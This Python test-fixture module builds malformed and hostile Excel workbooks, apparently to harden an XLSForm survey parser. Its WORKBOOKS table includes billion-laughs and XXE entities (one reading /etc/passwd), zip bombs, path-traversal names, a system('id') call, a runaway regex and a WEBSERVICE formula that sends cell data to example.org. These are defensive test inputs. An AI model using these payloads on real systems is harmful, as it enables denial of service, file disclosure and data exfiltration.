"""Workbooks that no honest author sends: malformed, endless, circular, or made to be opened."""

import io
import zipfile
from collections.abc import Callable, Sequence
from functools import partial
from itertools import pairwise
from typing import Any

from openpyxl import Workbook, load_workbook

HEAD = ("type", "name", "label", "calculation", "relevant", "constraint", "choice_filter")
Row = Sequence[Any]


def book(*rows: Row, choices: Sequence[Row] = (), head: Row = HEAD, sheet: str = "survey") -> bytes:
    """Return a workbook of these questions."""
    made = Workbook()
    survey = made.worksheets[0]
    survey.title = sheet
    for row in (head, *rows):
        survey.append([*row])
    if choices:
        listed = made.create_sheet("choices")
        for row in (("list_name", "name", "label"), *choices):
            listed.append([*row])
    return _bytes(made)


def _bytes(made: Workbook) -> bytes:
    found = io.BytesIO()
    made.save(found)
    return found.getvalue()


def rezipped(part: str, content: bytes | Callable[[bytes], bytes], *, level: int = 9) -> bytes:
    """Return a sound workbook, one part of which is another, or is added."""
    sound, found = io.BytesIO(book(("text", "a", "A"))), io.BytesIO()
    with (
        zipfile.ZipFile(sound) as old,
        zipfile.ZipFile(found, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as new,
    ):
        for name in old.namelist():
            if name != part:
                new.writestr(name, old.read(name))
        held = old.read(part) if part in old.namelist() else b""
        new.writestr(part, content(held) if callable(content) else content)
    return found.getvalue()


def _doctype(inner: str, held: bytes) -> bytes:
    _, _, rest = held.rpartition(b"?>")
    return b'<?xml version="1.0"?><!DOCTYPE x [' + inner.encode() + b"]>" + rest


def _deep(levels: int) -> bytes:
    rows: list[Row] = [("begin group", f"g{n}", "G") for n in range(levels)]
    rows += [("text", "a", "A"), *(("end group",) for _ in range(levels))]
    return book(*rows)


def _chain(size: int) -> bytes:
    """Each question is computed from the one after, and the last from the first."""
    names = [f"q{n}" for n in range(size)]
    pairs = [*pairwise(names), (names[-1], names[0])]
    return book(*(("calculate", one, "", f"${{{other}}} + 1") for one, other in pairs))


def _formula() -> bytes:
    made = load_workbook(io.BytesIO(book(("text", "a", "A"))))
    made["survey"]["A2"] = '=WEBSERVICE("https://example.org/"&C2)'
    return _bytes(made)


def _unfolding(part: str, megabytes: int) -> bytes:
    """Return a workbook one part of which is much larger than the archive."""
    found = io.BytesIO(book(("text", "a", "A")))
    with (
        zipfile.ZipFile(found, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open(part, "w", force_zip64=True) as inside,
    ):
        for _ in range(megabytes):
            inside.write(b" " * 1_000_000)
    return found.getvalue()


SURVEY = "xl/worksheets/sheet1.xml"
BILLION = '<!ENTITY a0 "lol">' + "".join(
    f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)
)
OUTSIDE = '<!ENTITY x SYSTEM "file:///etc/passwd">'

#: Title → what makes the workbook.
WORKBOOKS: dict[str, Callable[[], bytes]] = {
    "nothing": bytes,
    "an archive cut short": lambda: book(("text", "a", "A"))[:900],
    "an archive without parts": lambda: b"PK\x05\x06" + bytes(18),
    "a program": lambda: b"MZ" + bytes(4096),
    "an old workbook (xls)": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096),
    "a sheet that unfolds": partial(_unfolding, "xl/worksheets/sheet2.xml", 200),
    "strings that unfold": partial(_unfolding, "xl/sharedStrings2.xml", 300),
    "a part that unfolds beside": partial(_unfolding, "xl/media/a.bin", 400),
    "entities that multiply": partial(rezipped, SURVEY, partial(_doctype, BILLION)),
    "an entity from outside": partial(rezipped, SURVEY, partial(_doctype, OUTSIDE)),
    "a sheet that is no XML": partial(rezipped, SURVEY, b"\0\1\2" * 1000),
    "a sheet of openings": partial(rezipped, SURVEY, b"<a>" * 200_000),
    "a workbook that is no XML": partial(rezipped, "xl/workbook.xml", b"{}"),
    "no sheet": partial(rezipped, "xl/workbook.xml", b"<workbook/>"),
    "no column of types": lambda: book(("a", "b"), head=("x", "y")),
    "a type that is none": lambda: book(("telepathy", "a", "A")),
    "a question without a name": lambda: book(("text", "", "A")),
    "a name with a path": lambda: book(("text", "../../a", "A")),
    "a name of markup": lambda: book(("text", "<script>", "A")),
    "a name of ten thousand letters": lambda: book(("text", "é " * 5_000, "A")),
    "two questions of one name": lambda: book(("text", "a", "A"), ("text", "a", "A")),
    "a group that never ends": lambda: book(("begin group", "g", "G"), ("text", "a", "A")),
    "an end without a group": lambda: book(("text", "a", "A"), ("end group",)),
    "groups that cross": lambda: book(
        ("begin group", "g", "G"), ("begin repeat", "r", "R"), ("end group",), ("end repeat",)
    ),
    "five hundred groups in one another": partial(_deep, 500),
    "a list that is not there": lambda: book(("select_one rien", "a", "A")),
    "a file that is not there": lambda: book(("select_one_from_file rien.csv", "a", "A")),
    "a file elsewhere": lambda: book(("select_one_from_file ../../../etc/passwd", "a", "A")),
    "a choice twice": lambda: book(
        ("select_one l", "a", "A"), choices=[("l", "x", "X"), ("l", "x", "Y")]
    ),
    "a choice without a name": lambda: book(
        ("select_one l", "a", "A"), choices=[("l", None, "X"), ("l", "y", "Y")]
    ),
    "a question that is nowhere": lambda: book(("calculate", "a", "", "${nowhere}")),
    "a condition that is no expression": lambda: book(("text", "a", "A", "", "1 +* 2")),
    "a condition that never closes": lambda: book(("text", "a", "A", "", "(" * 3_000)),
    "a function that is none": lambda: book(("calculate", "a", "", "system('id')")),
    "a function with too few arguments": lambda: book(("calculate", "a", "", "selected('a')")),
    "a question computed from itself": lambda: book(("calculate", "a", "", "${a} + 1")),
    "a circle of two hundred": partial(_chain, 200),
    "a question shown if it is answered": lambda: book(("text", "a", "A", "", "${a} != ''")),
    "a label that shows what is nowhere": lambda: book(("text", "a", "Bonjour ${personne}")),
    "a macro of Excel 4": _formula,
    "a pattern that never ends": lambda: book(
        ("text", "a", "A", "", "", "regex(., '(((a+)+)+)+$(')")
    ),
    "a filter that is no expression": lambda: book(
        ("select_one l", "a", "A", "", "", "", "x = = 1"), choices=[("l", "x", "X")]
    ),
}
